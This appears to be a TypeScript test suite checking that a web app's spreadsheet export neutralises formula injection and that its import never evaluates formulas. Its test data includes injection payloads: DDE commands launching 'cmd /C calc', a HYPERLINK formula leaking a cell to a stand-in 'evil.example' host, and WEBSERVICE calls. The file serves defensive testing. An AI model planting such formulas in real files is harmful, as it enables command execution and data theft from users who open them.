import { inflateRawSync } from 'node:zlib'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { globSync, readFileSync } from 'node:fs'
import { fileURLToPath } from 'node:url'
import type { Cell } from '../../functions/domain/imports/table.ts'
import { readWorkbook } from '../../web/src/lib/import/read-workbook.ts'
import { writeWorkbook } from '../../web/src/lib/import/write-workbook.ts'
import { entriesOf, workbook } from './zip.ts'

const signs = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']
const payloads = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example/?"&A1,"点此")',
  '1+1',
  'SUM(A1:A9)',
  'WEBSERVICE("http://evil.example")',
  'DDE("cmd";"/C calc";"x")',
  '',
]

/** Every sheet of a workbook as the XML that a spreadsheet program reads. */
const sheetsOf = (file: Uint8Array) =>
  entriesOf(file)
    .filter(({ path }) => /^xl\/(worksheets\/|sharedStrings)/.test(path))
    .map(({ packed, stored }) => (stored ? Buffer.from(packed) : inflateRawSync(packed)).toString('utf8'))

const written = (cells: readonly Cell[]) =>
  writeWorkbook([{ name: '表', rows: [['表头'], ...cells.map((cell) => [cell])] }])
const read = async (name: string, file: Uint8Array) => {
  const answer = await readWorkbook(name, file)
  if (!answer.ok) throw new Error(answer.rejection.code)
  return answer.value
}
const texts = (xml: readonly string[]) =>
  xml.flatMap((one) =>
    [...one.matchAll(/<t(?: [^>]*)?>([^<]*)<\/t>/g)].map(([, text = '']) =>
      text.replace(/&(lt|gt|quot|apos|amp|#x?[\da-f]+);/gi, (entity) =>
        entity === '&apos;' || entity === '&#39;' ? "'" : entity === '&#9;' ? '\t' : entity,
      ),
    ),
  )

const nasty = fc
  .tuple(
    fc.constantFrom('', "'", "''", '\u0000', '\u0001', '\u0008', '\ufeff', ' '),
    fc.constantFrom('', ...signs),
    fc.oneof(fc.constantFrom(...payloads), fc.string({ unit: 'binary', maxLength: 12 })),
  )
  .map((parts) => parts.join(''))
/** What XML cannot hold does not survive; all else does. */
const kept = (text: string) => text.toWellFormed().replace(/[^\P{Cc}\t\n\r]|[\ufffe\uffff]/gu, '')

describe('an exported workbook', () => {
  test('holds no formula and no text that begins like one, whatever its cells say', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(nasty, { minLength: 1, maxLength: 20 }), async (cells) => {
        const xml = sheetsOf(await written(cells))
        expect(xml.length).toBeGreaterThan(0)
        expect(xml.filter((one) => /<f[\s>/]/.test(one))).toEqual([])
        expect(texts(xml).filter((text) => /^[=+\-@\t\r\n＝＋－＠]/.test(text))).toEqual([])
      }),
      { numRuns: 60 },
    )
  })

  test('comes back as it was, guards and all', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(nasty, { minLength: 1, maxLength: 20 }), async (cells) => {
        const [sheet] = await read('表.xlsx', await written(cells))
        const back = cells.map((_, at) => sheet?.rows[at + 1]?.[0] ?? null)
        // Excel itself keeps line ends as \n.
        const plain = (text: Cell | undefined) => (typeof text === 'string' ? text.replace(/\r\n?/g, '\n') : '')
        expect(back.map(plain)).toEqual(cells.map((text) => plain(kept(text))))
      }),
      { numRuns: 60 },
    )
  })

  test('keeps numbers as numbers and days as days: a deduction is no formula', async () => {
    const cells: Cell[] = [-1, -0.5, 0, 1e-7, true, { date: '2026-07-08' }, '2026-07', '1-2', '消防-演练']
    const [sheet] = await read('表.xlsx', await written(cells))
    expect(sheet?.rows.slice(1).map(([cell]) => cell)).toEqual(cells)
  })

  test('is the only way out of the pages as a table', () => {
    const folder = fileURLToPath(new URL('../../web/src', import.meta.url))
    const makers = globSync('**/*.{ts,svelte}', { cwd: folder }).filter(
      (file) =>
        !file.includes('paraglide') &&
        /hucre\/(?!csv'\))|toCsv|text\/csv|writeXlsx/.test(readFileSync(`${folder}/${file}`, 'utf8')),
    )
    expect(makers.sort()).toEqual(['lib/import/read-workbook.ts', 'lib/import/write-workbook.ts'])
  })
})

describe('an imported workbook', () => {
  const row = (cells: string) => `<sheetData><row r="1">${cells}</row></sheetData>`

  test('gives the values that its formulas had when it was saved, and calculates nothing', async () => {
    const cells =
      '<c r="A1"><f>1+1</f><v>7</v></c>' +
      '<c r="B1" t="str"><f>HYPERLINK("http://evil.example","点")</f><v>点</v></c>' +
      '<c r="C1"><f>WEBSERVICE("http://evil.example")</f></c>' +
      '<c r="D1" t="e"><f>1/0</f><v>#DIV/0!</v></c>' +
      '<c r="E1" t="inlineStr"><is><t>=1+1</t></is></c>'
    const [sheet] = await read('a.xlsx', workbook({ sheet: row(cells) }))
    const [a, b, c, d, e] = sheet?.rows[0] ?? []
    expect([a, b, c ?? null, e]).toEqual([7, '点', null, '=1+1'])
    expect(String(d ?? '')).not.toMatch(/1\/0/)
  })

  test('of text takes a formula for the text it is', async () => {
    const [sheet] = await read(
      'a.csv',
      new TextEncoder().encode('名称,备注\n=1+1,@SUM(A1)\n"=cmd|\' /C calc\'!A0",-5\n'),
    )
    expect(sheet?.rows.slice(1)).toEqual([
      ['=1+1', '@SUM(A1)'],
      ["=cmd|' /C calc'!A0", '-5'],
    ])
  })
})
